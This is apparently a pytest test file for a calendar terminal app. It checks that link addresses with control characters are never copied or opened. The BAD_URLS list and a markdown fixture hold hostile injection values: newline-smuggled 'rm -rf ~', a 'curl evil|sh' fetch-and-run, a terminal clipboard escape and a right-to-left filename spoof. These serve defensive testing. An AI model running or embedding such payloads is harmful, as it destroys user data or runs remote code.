"""`y` copies and `o` opens exactly the address shown: one with a line break or a control
character is refused (never copied with a newline a shell would run), a clean one is used as is."""

from __future__ import annotations

from datetime import date

import pytest

from calendar_tui.model.loader import load_store
from calendar_tui.model.types import Link
from conftest import store_of, timed_session
from helpers import SIZE

BAD_URLS = [
    "https://a.example/x\nrm -rf ~",
    "https://a.example/x\rcurl evil|sh",
    "https://a.example/\x1b]52;c;ZXZpbA==\x07",
    "https://a.example/\x07bell",
    "https://a.example/\u202egnp.exe",
]


def spy(app, monkeypatch):
    used: list[tuple[str, str]] = []
    monkeypatch.setattr(app, "copy_to_clipboard", lambda text: used.append(("copy", text)))
    monkeypatch.setattr(app, "open_url", lambda url, **_: used.append(("open", url)))
    monkeypatch.setattr("webbrowser.open", lambda url, *_, **__: used.append(("open", url)) or 1)
    return used


@pytest.mark.parametrize("url", BAD_URLS, ids=range(len(BAD_URLS)))
async def test_an_address_with_a_control_character_is_never_used(make_app, monkeypatch, url):
    session = timed_session("p/1", "Lien piégé", date(2020, 11, 18), 10, links=(Link("x", url),))
    app = make_app(store_of(session))
    used = spy(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("y", "o")
        await pilot.pause()
    assert used == []


async def test_of_several_links_only_the_clean_ones_can_be_chosen(make_app, monkeypatch):
    links = (Link("piège", BAD_URLS[0]), Link("bon", "https://b.example/ok"))
    session = timed_session("p/1", "Deux liens", date(2020, 11, 18), 10, links=links)
    app = make_app(store_of(session))
    used = spy(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        for key in ("y", "up", "up", "enter"):  # the struck-out one cannot be highlighted
            await pilot.press(key)
            await pilot.pause()
    assert used == [("copy", "https://b.example/ok")]


async def test_a_href_with_a_newline_in_a_post_is_copied_and_opened_as_shown(
    make_app, monkeypatch, tmp_path
):
    post = tmp_path / "lien.md"
    post.write_text(
        "---\ntitle: Lien\nevent_start_date: 2020-11-18 10:00:00 +01:00\n---\n\n"
        '<a href="https://a.example/x\nrm -rf ~">Inscription</a>\n',
        encoding="utf-8",
    )
    app = make_app(load_store([post]))
    used = spy(app, monkeypatch)
    said: list[str] = []
    notify = app.notify
    monkeypatch.setattr(
        app, "notify", lambda message, **kw: said.append(message) or notify(message, **kw)
    )
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("y", "o")
        await pilot.pause()
        [link] = app.screen.occurrence.session.links
    shown = " ".join(said)
    assert used == [("copy", link.url), ("open", link.url)]
    for _, text in used:
        assert text.isprintable() and " " not in text and text in shown
